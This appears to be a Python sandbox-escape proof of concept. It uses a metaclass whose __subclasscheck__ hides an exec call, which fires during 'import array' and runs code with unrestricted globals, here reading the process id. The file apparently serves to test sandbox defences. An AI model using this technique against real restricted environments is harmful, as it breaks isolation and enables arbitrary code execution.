# technique: inside an import a C callable executes text with plain globals
# goal: import
# source: own analysis: C callables inside an import
import abc
import collections.abc
import functools
g = {}


class Meta(abc.ABCMeta):
    __subclasscheck__ = staticmethod(functools.partial(
        dict.fromkeys, map(exec, ['import posix; pid = posix.getpid()'], [g])))


class Evil(collections.abc.MutableSequence, metaclass=Meta):
    pass


import array
print('ESCAPED pid=%d' % g['pid'])
